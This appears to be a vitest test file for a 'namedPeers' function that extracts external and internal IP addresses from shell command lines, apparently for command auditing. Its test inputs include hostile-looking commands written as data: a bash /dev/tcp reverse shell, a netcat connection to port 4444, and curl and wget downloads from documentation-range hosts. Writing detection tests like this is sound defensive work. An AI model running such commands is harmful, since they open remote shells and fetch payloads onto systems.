import { expect, it } from 'vitest';
import { namedPeers } from './named-peers.ts';

it.each<[string | undefined, string[]]>([
  [undefined, []],
  ['ls -la', []],
  ['curl -so /tmp/.k http://203.0.113.41:8080/k', ['external:203.0.113.41']],
  ['bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', ['external:198.51.100.7']],
  ['nc 203.0.113.9 4444', ['external:203.0.113.9']],
  ['wget http://[2001:DB8::1]/x', ['external:2001:db8::1']],
  ['psql -h 10.0.0.5', ['ip:10.0.0.5']],
  ['curl http://169.254.169.254/latest/meta-data/', []],
  ['ping 127.0.0.1', []],
  ['curl https://github.com/x', []],
  ['driver 10.0.19041.1 of 999.1.1.1', []],
  ['203.0.113.1 203.0.113.1 203.0.113.2', ['external:203.0.113.1', 'external:203.0.113.2']],
])('%s names %j', (command_line, peers) => {
  expect(namedPeers(command_line)).toEqual(peers);
});

it('is quick on long text', () => {
  expect(namedPeers('1.'.repeat(1_000_000))).toEqual([]);
  expect(namedPeers(Array.from({ length: 50 }, (_, at) => `203.0.113.${at}`).join(' '))).toHaveLength(4);
});
